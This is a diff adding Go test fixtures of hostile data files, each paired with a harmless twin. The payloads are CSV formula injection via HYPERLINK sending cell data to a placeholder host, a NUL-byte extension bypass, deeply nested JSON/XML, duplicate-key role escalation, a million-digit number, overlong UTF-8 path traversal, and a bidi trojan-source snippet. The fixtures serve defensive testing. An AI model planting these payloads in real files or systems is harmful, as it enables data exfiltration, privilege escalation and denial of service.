@@ -1,3 +1,135 @@
 package hostile
 
-var dataCases = []Case{}
+import (
+	"bytes"
+	"encoding/csv"
+	"strings"
+)
+
+// dataCases are files of records and text.
+var dataCases = []Case{
+	formula("csv-formula-equals", "Formula with an equals sign", "an equals sign", "="+link, "a = b"),
+	formula("csv-formula-plus", "Formula with a plus sign", "a plus sign", "+"+link, "+7.5"),
+	formula("csv-formula-minus", "Formula with a minus sign", "a minus sign", "-1&"+link, "-7.5"),
+	formula("csv-formula-at", "Formula with an at sign", "an at sign", "@"+link, "a@placeholder.invalid"),
+	formula("csv-formula-tab", "Formula after a tab", "a tab, which spreadsheets skip", "\t="+link, "a\t= b"),
+	formula("csv-formula-return", "Formula after a carriage return", "a carriage return, which spreadsheets skip", "\r="+link, "a\r= b"),
+	{Info{
+		Token: "csv-nul", Format: "csv", Title: "NUL byte in a value", Verdict: Reject, CWE: 158,
+		Attack:  "A value has a NUL byte before an allowed extension, and programs in C take the NUL byte for its end.",
+		Failure: "The list of attachments names placeholder.php, or has a NUL byte.",
+	}, nulCSV},
+	{Info{
+		Token: "json-deep", Format: "json", Title: "Deeply nested arrays", Verdict: Reject, CWE: 674,
+		Attack:  "Arrays are nested 100,000 deep, to exhaust the stack of a recursive parser.",
+		Failure: "The process crashes, or the request fails with an internal error.",
+	}, deepJSON},
+	{Info{
+		Token: "json-duplicate-keys", Format: "json", Title: "Duplicate keys", Verdict: Reject, CWE: 436,
+		Attack:  "A key occurs twice, so that a program that takes the first value checks another one than a program that takes the last uses.",
+		Failure: "The check sees the role user, and the record is stored with the role admin.",
+	}, duplicateKeysJSON},
+	{Info{
+		Token: "json-long-number", Format: "json", Title: "Number of a million digits", Verdict: Reject, CWE: 407,
+		Attack:  "A number has 1,000,000 digits, and the time to convert it grows with the square of their number.",
+		Failure: "The request takes seconds of CPU time.",
+	}, longNumberJSON},
+	{Info{
+		Token: "xml-deep", Format: "xml", Title: "Deeply nested elements", Verdict: Reject, CWE: 674,
+		Attack:  "Elements are nested 100,000 deep, to exhaust the stack of a recursive parser.",
+		Failure: "The process crashes, or the request fails with an internal error.",
+	}, deepXML},
+	{Info{
+		Token: "text-invalid-utf8", Format: "txt", Title: "Invalid UTF-8", Verdict: Reject, CWE: 176,
+		Attack:  "Bytes that are not UTF-8 stand for ../ if a lenient decoder reads them after the check of the path.",
+		Failure: "The decoded text contains ../, or text that is not UTF-8 is stored.",
+	}, invalidUTF8},
+	{Info{
+		Token: "text-bidi", Format: "txt", Title: "Bidirectional control characters", Verdict: Sanitize, CWE: 451,
+		Attack:  "Control characters of bidirectional text show a return statement as a part of a comment.",
+		Failure: "The text is shown in an order that is not that of its characters.",
+	}, bidiText},
+}
+
+// link is a formula that shows the marker.
+const link = `HYPERLINK("http://placeholder.invalid/?"&A2,"` + Marker + `")`
+
+// formula returns a case of a table with a value that spreadsheets take for a formula. Its twin
+// has a value with the same characters that they take for text or a number.
+func formula(token, title, first, value, harmless string) Case {
+	return Case{Info{
+		Token: token, Format: "csv", Title: title, Verdict: Sanitize, CWE: 1236, ASVS: "1.2.10",
+		Attack:  "A value starts with " + first + ", so that a spreadsheet takes it for a formula that links to a host with data of another cell.",
+		Failure: "A spreadsheet shows " + Marker + " instead of the text of the formula.",
+	}, func(twin bool) []byte {
+		return csvOf([][]string{{"id", "comment"}, {"1", either(twin, harmless, value)}})
+	}}
+}
+
+// either returns the harmless text for a twin, and else the hostile one.
+func either(twin bool, harmless, hostile string) string {
+	if twin {
+		return harmless
+	}
+	return hostile
+}
+
+// csvOf returns a table with CRLF at the end of lines (RFC 4180).
+func csvOf(rows [][]string) []byte {
+	var b bytes.Buffer
+	w := csv.NewWriter(&b)
+	_ = w.WriteAll(rows) // a Buffer returns no error
+	return bytes.ReplaceAll(b.Bytes(), []byte("\n"), []byte("\r\n"))
+}
+
+func nulCSV(twin bool) []byte {
+	return csvOf([][]string{{"id", "attachment"}, {"1", either(twin, "placeholder.jpg", "placeholder.php\x00.jpg")}})
+}
+
+// Depths of nested elements and arrays. Libraries accept at least 250.
+const (
+	hostileDepth  = 100_000
+	harmlessDepth = 32
+)
+
+// nested returns as many openings as closings, around a content.
+func nested(twin bool, opening, content, closing string) []byte {
+	depth := hostileDepth
+	if twin {
+		depth = harmlessDepth
+	}
+	return []byte(strings.Repeat(opening, depth) + content + strings.Repeat(closing, depth) + "\n")
+}
+
+func deepJSON(twin bool) []byte { return nested(twin, "[", "1", "]") }
+
+func deepXML(twin bool) []byte { return nested(twin, "<a>", "1", "</a>") }
+
+func duplicateKeysJSON(twin bool) []byte {
+	key := either(twin, "team", "role")
+	return []byte(`{"name": "placeholder", "role": "user", "` + key + `": "admin"}` + "\n")
+}
+
+func longNumberJSON(twin bool) []byte {
+	digits := 1_000_000
+	if twin {
+		digits = 15 // which a float64 can represent exactly
+	}
+	return []byte(`{"amount": ` + strings.Repeat("7", digits) + "}\n")
+}
+
+// invalidUTF8 returns lines of text. Each line of the attack has bytes that are not valid in
+// UTF-8: overlong forms of a dot and a slash, a surrogate, a character above the last one, a
+// continuation byte, and the beginning of a character.
+func invalidUTF8(twin bool) []byte {
+	lines := "path \xc0\xae\xc0\xae\xc0\xaf" + Canary + "\nsurrogate \xed\xa0\x80\nbeyond \xf4\x90\x80\x80\ncontinuation \x80\nbeginning \xe2\x82\n"
+	return []byte(either(twin, "path ··· "+Canary+"\nsurrogate 𐀀\nbeyond \U0010ffff\ncontinuation é\nbeginning €\n", lines))
+}
+
+// bidiText returns the source of a function in Python. In the attack, an isolate from right to
+// left shows the end of the comment and the statement after it as text of the comment. The twin
+// has a comment in Hebrew, which needs no control characters.
+func bidiText(twin bool) []byte {
+	comment := either(twin, `"""Withdraw an amount, משיכה."""; amount += 0`, `"""Withdraw an amount, then `+"\u2067"+`"""; return`)
+	return []byte("def withdraw(account, amount):\n    " + comment + "\n    account.balance -= amount\n")
+}
